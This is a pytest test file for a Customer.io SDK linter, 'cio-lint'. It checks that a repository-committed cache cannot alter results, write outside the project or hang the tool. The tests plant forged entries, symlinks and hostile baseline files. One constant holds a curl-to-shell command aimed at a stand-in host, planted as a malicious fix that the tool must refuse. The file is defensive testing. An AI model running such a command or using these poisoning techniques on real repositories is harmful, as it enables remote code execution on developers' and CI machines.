"""A cache directory a repository carries can never change results, write elsewhere or hang.

The cache sits in the project (``.cio_lint_cache``) unless told otherwise, so a
repository can commit anything there: entries made on another machine, edited
entries, links to ``/dev/zero`` or out of the tree, an empty ``.gitignore``. Each
test here plants one such thing and runs ``cio-lint check`` as CI would.
"""

from __future__ import annotations

import json
import os
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from cio_lint.core.findings import Edit, Fix, Position
from cio_lint.engine.cache import Cache
from cio_lint.engine.cache_files import IGNORE_TEXT, key_path
from tests.conftest import forget_run_records, run_cli

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="symbolic links and modes")

#: One CIO304 finding (2.x-style keyword attributes), with a safe fix in a 3.x project.
SOURCE = """\
import os
from customerio import CustomerIO
cio = CustomerIO(os.environ["SITE_ID"], os.environ["API_KEY"])
cio.identify(id="5", email="a@example.com")
cio.track("5", "signed_up", plan="pro")
"""
EVIL = "import os; os.system('curl evil.example | sh')\n"


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "pyproject.toml").write_text("[tool.cio-lint]\n", encoding="utf-8")
    (root / "requirements.txt").write_text("customerio==3.2.0\n", encoding="utf-8")
    (root / "app.py").write_text(SOURCE, encoding="utf-8")
    return root


def check(project: Path, *args: str, home: str = "victim") -> tuple[int, str, str]:
    """``cio-lint check`` in ``project``, with the per-user key kept under ``home``."""
    env = {"XDG_CACHE_HOME": str(project.parent / home), "CIO_LINT_CACHE_DIR": ""}
    result = run_cli("check", *args, cwd=project, env=env)
    assert "Traceback" not in result.stderr, result.stderr
    return result.returncode, result.stdout, result.stderr


def entries(project: Path) -> list[Path]:
    return sorted((project / ".cio_lint_cache").glob("v*/*/*.json"))


def plant_from_another_machine(project: Path, fix: Fix | None = None) -> None:
    """Entries that hide every finding (or carry ``fix``), signed with another user's key."""
    assert check(project, home="attacker")[0] == 1
    secret = bytes.fromhex(
        (project.parent / "attacker" / "cio-lint" / "key").read_text().strip())
    cache = Cache(project / ".cio_lint_cache", secret)
    source = (project / "app.py").read_bytes()
    for path in entries(project):
        result = cache.get(path.stem, source)
        assert result is not None
        if fix is None:
            result.findings = []
        else:
            result.findings = [replace(f, fix=fix) for f in result.findings]
        cache.put(path.stem, result, source)
    forget_run_records(project / ".cio_lint_cache")  # the forgery is in the entries


def test_an_entry_made_with_another_key_is_ignored(project: Path) -> None:
    plant_from_another_machine(project)
    assert check(project, home="attacker")[0] == 0  # the forgery works for its maker only
    code, out, _ = check(project, "--output-format", "sarif")
    assert code == 1
    results = json.loads(out)["runs"][0]["results"]
    assert [r["ruleId"] for r in results] == ["CIO304"]


def test_a_planted_fix_is_never_applied(project: Path) -> None:
    everything = Edit(Position(1, 1), Position(6, 1), EVIL)
    plant_from_another_machine(project, Fix((everything,), True, "planted"))
    check(project, "--fix")
    assert EVIL not in (project / "app.py").read_text(encoding="utf-8")
    assert "data={" in (project / "app.py").read_text(encoding="utf-8")  # the real fix


def test_an_edited_entry_is_ignored(project: Path) -> None:
    check(project)
    for path in entries(project):
        path.write_bytes(path.read_bytes().replace(b"sdk-signature-misuse", b"planted-rule"))
    code, out, _ = check(project)
    assert code == 1
    assert "CIO304 sdk-signature-misuse" in out
    assert "planted-rule" not in out


def test_the_key_is_private_and_outside_the_project(project: Path) -> None:
    check(project)
    key = project.parent / "victim" / "cio-lint" / "key"
    assert key.is_file() and key.stat().st_mode & 0o777 == 0o600
    os.environ["XDG_CACHE_HOME"] = str(project.parent / "victim")
    try:
        assert key_path() == key
    finally:
        del os.environ["XDG_CACHE_HOME"]


def test_a_key_inside_the_project_is_not_used(project: Path) -> None:
    code, out, err = check(project, home="project/.keys")
    assert code == 1 and "CIO304" in out
    assert "running without a cache" in err and len(err.splitlines()) == 1
    assert not (project / ".cio_lint_cache").exists()


def test_a_key_others_can_read_is_not_trusted(project: Path) -> None:
    check(project)
    (project.parent / "victim" / "cio-lint" / "key").chmod(0o644)
    code, out, err = check(project)
    assert code == 1 and "CIO304" in out
    assert "must belong to you and be private" in err


@pytest.mark.parametrize("target", ["outside.json", "/dev/zero"])
def test_a_linked_entry_is_not_followed(project: Path, target: str) -> None:
    check(project)
    (entry,) = entries(project)
    outside = project.parent / target
    if target == "outside.json":
        outside.write_bytes(entry.read_bytes())  # a valid entry: only following would use it
    entry.unlink()
    entry.symlink_to(outside)
    forget_run_records(project / ".cio_lint_cache")
    code, out, _ = check(project)
    assert code == 1 and "CIO304" in out
    assert not entry.is_symlink()  # a miss, rewritten in place: the link itself replaced
    if target == "outside.json":
        assert outside.read_bytes() == entry.read_bytes()


def test_a_deeply_nested_entry_is_a_miss(project: Path) -> None:
    check(project)
    (entry,) = entries(project)
    entry.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    code, out, _ = check(project)
    assert code == 1 and "CIO304" in out


def test_linked_directories_in_the_cache_are_not_written_through(project: Path) -> None:
    check(project)
    outside = project.parent / "outside"
    outside.mkdir()
    (entry,) = entries(project)
    entry.unlink()
    entry.parent.rmdir()
    entry.parent.symlink_to(outside)
    code, out, _ = check(project)
    assert code == 1 and "CIO304" in out
    assert list(outside.iterdir()) == []


def test_a_linked_gitignore_is_replaced_not_written_through(project: Path) -> None:
    check(project)
    ignore = project / ".cio_lint_cache" / ".gitignore"
    ignore.unlink()
    ignore.symlink_to(project.parent / "outside-gitignore")  # dangling
    check(project)
    assert not (project.parent / "outside-gitignore").exists()
    assert not ignore.is_symlink() and ignore.read_text(encoding="utf-8") == IGNORE_TEXT


@pytest.mark.parametrize("damage", ["", "!*\n"], ids=["empty", "planted"])
def test_a_wrong_gitignore_is_rewritten(project: Path, damage: str) -> None:
    check(project)
    ignore = project / ".cio_lint_cache" / ".gitignore"
    ignore.write_text(damage, encoding="utf-8")  # a run that hit a full disk, or a repository
    check(project)  # every entry hits: nothing new is written
    assert ignore.read_text(encoding="utf-8") == IGNORE_TEXT


def test_a_cache_directory_linked_out_of_the_project_is_not_used(project: Path) -> None:
    outside = project.parent / "elsewhere"
    outside.mkdir()
    (project / ".cio_lint_cache").symlink_to(outside)
    code, out, err = check(project)
    assert code == 1 and "CIO304" in out
    assert list(outside.iterdir()) == []
    assert err.splitlines() == [
        f"cio-lint: warning: running without a cache: {project / '.cio_lint_cache'} "
        "is a symbolic link out of the project"
    ]


def test_a_cache_directory_named_by_the_user_may_be_a_link(project: Path) -> None:
    outside = project.parent / "elsewhere"
    outside.mkdir()
    (project.parent / "link").symlink_to(outside)
    code, _, err = check(project, "--cache-dir", str(project.parent / "link"))
    assert code == 1 and err == ""
    assert list(outside.glob("v*/*/*.json"))


@pytest.mark.parametrize("make", ["deep", "zero", "fifo", "huge"])
def test_a_hostile_baseline_is_a_one_line_error(project: Path, make: str) -> None:
    baseline = project / "baseline.json"
    if make == "deep":
        baseline.write_text("[" * 50_000 + "]" * 50_000, encoding="utf-8")
    elif make == "zero":
        baseline.symlink_to("/dev/zero")
    elif make == "fifo":
        os.mkfifo(baseline)
    else:
        with baseline.open("wb") as handle:
            handle.truncate(65 * 1024 * 1024)  # sparse: costs no disk
    code, out, err = check(project, "--baseline", "baseline.json")
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1 and err.startswith("cio-lint: error: baseline.json: ")

